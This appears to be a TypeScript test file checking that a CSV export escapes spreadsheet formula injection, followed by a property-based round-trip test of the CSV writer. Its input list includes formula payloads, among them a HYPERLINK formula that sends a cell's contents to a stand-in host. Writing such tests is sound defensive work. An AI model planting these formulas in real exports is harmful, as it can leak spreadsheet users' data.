import fc from 'fast-check'
import { csvCell, csvLine } from '#server/features/admin/audit/csv'

test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '=HYPERLINK("http://x?"&A1)'])(
  '%j is text in a spreadsheet, not a formula',
  (value) => {
    expect(csvCell(value).replace(/^"/, '')).toMatch(/^'/)
  },
)

test('whatever the cells hold, the same cells are read again', () => {
  const read = (line: string): string[] =>
    [...line.slice(0, -2).matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(
      ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '',
    )
  const cell = fc.string({ minLength: 1 }).filter((text) => !/^[=+\-@\t\r]/.test(text))
  fc.assert(
    fc.property(fc.array(cell, { minLength: 2, maxLength: 5 }), (cells) => {
      expect(read(csvLine(cells))).toEqual(cells)
    }),
  )
})
